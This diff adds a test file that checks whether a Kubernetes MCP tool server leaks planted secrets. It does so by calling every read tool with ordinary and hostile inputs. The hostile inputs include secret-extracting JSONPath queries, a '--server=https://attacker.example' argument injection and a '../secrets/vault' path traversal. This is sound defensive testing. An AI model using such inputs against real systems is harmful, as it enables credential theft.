@@ -1,0 +1,120 @@
+import type {Client} from '@modelcontextprotocol/client';
+import {afterAll, describe, expect, test} from 'vitest';
+import {clientOver, type Era, eras, pipes} from '../support/edge-client.ts';
+import {leaksIn} from './planted.ts';
+import {vaultShop} from './vault-shop.ts';
+
+const shop = await vaultShop();
+const pod = shop.podOf('till');
+
+type Call = readonly [tool: string, input: {readonly [field: string]: unknown}];
+
+/** As a model asks that looks for what is wrong. */
+const ordinary: readonly Call[] = [
+	...['secrets', 'configmaps', 'pods', 'deployments', 'events'].map((kind): Call => ['resource_list', {kind}]),
+	...['secret/vault', 'configmap/till', 'deployment/till', `pod/${pod}`].flatMap((object): readonly Call[] => {
+		const [kind, name] = object.split('/');
+		return [
+			['resource_get', {kind, name}],
+			['resource_describe', {kind, name}],
+		];
+	}),
+	['pod_logs', {pod}],
+	['events_list', {}],
+	['resource_usage', {}],
+	['rollout_history', {workload: 'till'}],
+	['contexts_list', {}],
+	['namespaces_list', {}],
+	['api_resources_list', {}],
+	['permissions_check', {}],
+	['analyze_environment', {}],
+	['deployment_status', {name: 'till'}],
+	['generate_k8s_config', {image: 'registry.example/shop/till:1.0.0'}],
+	['tool_search', {query: 'secret'}],
+];
+
+/** As one asks who wants the values. */
+const hostile: readonly Call[] = [
+	['resource_list', {kind: 'secrets', all: true, allNamespaces: true, columns: ['.data', '.data.password', '.metadata.annotations']}],
+	['resource_list', {kind: 'pods', columns: ['.spec.containers[*].env[*].value', '.spec.containers[*].args']}],
+	['resource_list', {kind: 'deploy', columns: ['.spec.template.spec.containers[*].env', '.metadata.annotations']}],
+	['resource_list', {kind: 'cm', columns: ['.data', '.data["app.yaml"]']}],
+	['resource_list', {kind: 'secrets', fieldSelector: `data.password=${Buffer.from('x').toString('base64')}`}],
+	['resource_list', {kind: 'secret/vault'}],
+	...['.data', '.data.password', '.metadata.annotations', '.metadata.managedFields', '$..*', '.'].map(
+		(path): Call => ['resource_get', {kind: 'secret', name: 'vault', path}],
+	),
+	['resource_get', {kind: 'Secret.v1', name: 'vault'}],
+	['resource_get', {kind: 'SECRETS', name: 'vault', namespace: 'shop'}],
+	['resource_get', {kind: 'secret', name: '--server=https://attacker.example'}],
+	['resource_get', {kind: 'secret', name: '../secrets/vault'}],
+	['resource_get', {kind: 'pod', name: pod, path: '.spec.containers[*].env[*].value'}],
+	['resource_get', {kind: 'deploy', name: 'till', path: '.spec.template.spec.containers[*].args'}],
+	['resource_get', {kind: 'cm', name: 'till', path: '.data'}],
+	['pod_logs', {pod, fold: false, tail: 100_000}],
+	['pod_logs', {pod, pattern: 'password='}],
+	['pod_logs', {labelSelector: 'app=till', fold: false}],
+	['events_list', {allNamespaces: true, limit: 500}],
+	['events_list', {object: 'till'}],
+	['rollout_history', {workload: 'deployment/till', limit: 100}],
+	['permissions_check', {verb: 'get', kind: 'secrets', name: 'vault'}],
+	['deployment_status', {name: 'secret/vault'}],
+	['analyze_environment', {namespace: '../shop'}],
+	['api_resources_list', {match: 'secrets'}],
+	['generate_k8s_config', {manifest: 'kind: Secret\nmetadata: {name: vault}'}],
+	['generate_k8s_config', {image: 'till:1', env: ['DB_PASSWORD=$(vault.password)']}],
+	['tool_search', {query: 'kubeconfig token'}],
+];
+
+const ends: (() => Promise<unknown>)[] = [];
+afterAll(() => Promise.all(ends.map(end => end())));
+
+async function serve(era: Era): Promise<Client> {
+	const ways = pipes();
+	const served = shop.run(['mcp', 'serve'], {pipes: ways});
+	const client = await clientOver(ways, era);
+	ends.push(async () => {
+		await client.close();
+		ways.input.end();
+		await served;
+	});
+	return client;
+}
+
+/** All that a client gets for a call: the answer, or the refusal, and every page of what did not fit. */
+async function everything(client: Client, [name, input]: Call, max_tokens: number): Promise<string> {
+	const answer = await client.callTool({name, arguments: {...input, max_tokens}}).catch((error: unknown) => ({refusal: String(error)}));
+	const said = [JSON.stringify(answer)];
+	const links = 'content' in answer ? answer.content.flatMap(part => (part.type === 'resource_link' ? [part.uri] : [])) : [];
+	for (let uri = links[0]; uri !== undefined; ) {
+		const page = JSON.stringify(await client.readResource({uri}));
+		said.push(page);
+		uri = /\(It goes on: (mkcoa:[^)]+)\)/.exec(page)?.[1];
+	}
+	return said.join('\n');
+}
+
+const clients = {legacy: await serve('legacy'), modern: await serve('modern')};
+
+describe.each(eras)('over the edge, to a client of the %s era', era => {
+	const client = clients[era];
+
+	test('every tool that reads is called', async () => {
+		const {tools} = await client.listTools();
+		const called = new Set([...ordinary, ...hostile].map(([tool]) => tool));
+		expect(tools.map(({name}) => name).filter(name => !called.has(name))).toEqual([]);
+		expect(leaksIn(JSON.stringify(tools))).toEqual([]);
+	});
+
+	test.each([500, 25_000])('no answer of %d tokens, nor its rest, holds a secret', async tokens => {
+		const told = await Promise.all([...ordinary, ...hostile].map(async call => ({call, said: await everything(client, call, tokens)})));
+		expect(told.flatMap(({call, said}) => leaksIn(said).map(leak => ({call, leak})))).toEqual([]);
+	});
+});
+
+test('what was called did read what holds the secrets', async () => {
+	const said = await Promise.all(ordinary.map(call => everything(clients.modern, call, 25_000)));
+	expect(ordinary.filter((_, index) => said[index]?.includes('"isError":true') || said[index]?.includes('"refusal"'))).toEqual([]);
+	expect(said.join('\n')).toContain('redacted');
+	expect(said.join('\n')).toContain('LOG_LEVEL');
+});
